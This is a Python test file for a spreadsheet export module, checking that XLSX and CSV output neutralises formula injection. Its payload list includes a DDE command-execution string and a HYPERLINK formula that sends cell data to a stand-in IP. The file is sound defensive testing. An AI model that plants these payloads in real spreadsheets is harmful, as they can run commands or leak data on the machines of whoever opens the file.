"""Whatever somebody wrote, a spreadsheet shows it and works nothing out."""

import csv
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from intake.rendering.spreadsheets import as_csv, as_xlsx, harmless

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001 a full-width sign
    '","=1+1',
    "{=1+1}",
    "http://192.0.2.1/",
    "<script>alert(1)</script>",
]
# no lone halves of pairs: the table cannot hold them; XML knows no other control characters
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
STARTS = st.sampled_from(["", *"=+-@\t\r\n\0", " =", "＝"])  # noqa: RUF001
WRITTEN = st.builds(str.__add__, STARTS, TEXTS)


def read_csv(file: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(file.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_an_xlsx_file_is_a_formula_or_a_link(payload: str) -> None:
    file = as_xlsx("Cases", [payload], [[payload, 5]])
    (sheet,) = load_workbook(BytesIO(file)).worksheets
    types = {cell.coordinate: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert types == {"A1": "s", "A2": "s", "B1": "n", "B2": "n"}
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert b"<f>" not in ZipFile(BytesIO(file)).read("xl/worksheets/sheet1.xml")


@given(st.lists(WRITTEN, min_size=1, max_size=6))
@example(PAYLOADS)
def test_every_text_of_an_xlsx_file_is_a_text(texts: list[str]) -> None:
    file = as_xlsx("Cases", texts, [texts])
    (sheet,) = load_workbook(BytesIO(file)).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s"}


@pytest.mark.parametrize("payload", PAYLOADS[:11])
def test_a_cell_of_a_csv_file_that_would_begin_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert harmless(payload) == f"'{payload}"


@given(st.lists(WRITTEN, min_size=1, max_size=6))
@example(PAYLOADS)
def test_no_cell_of_a_csv_file_begins_a_formula(texts: list[str]) -> None:
    for row in read_csv(as_csv(texts, [texts])):
        assert not [cell for cell in row if cell.strip()[:1] in set("=+-@＝＋－＠\0")]  # noqa: RUF001
        assert not [cell for cell in row if cell[:1] in set("\t\r\n")]


@given(st.lists(WRITTEN, min_size=1, max_size=6))
def test_a_csv_file_keeps_every_word(texts: list[str]) -> None:
    (_, row) = read_csv(as_csv(["x"] * len(texts), [texts]))
    assert [cell.removeprefix("'") for cell in row] == [text.removeprefix("'") for text in texts]


@pytest.mark.parametrize("plain", ["Sam Rivers", "", "2026-11-21", "a=b", "Noise, at night"])
def test_a_harmless_cell_stays_as_it_is(plain: str) -> None:
    assert harmless(plain) == plain


def test_numbers_stay_numbers() -> None:
    (sheet,) = load_workbook(BytesIO(as_xlsx("Cases", ["Sessions"], [[3], [-1]]))).worksheets
    assert [row[0].value for row in sheet.iter_rows()] == ["Sessions", 3, -1]
    assert harmless(-1) == "-1"
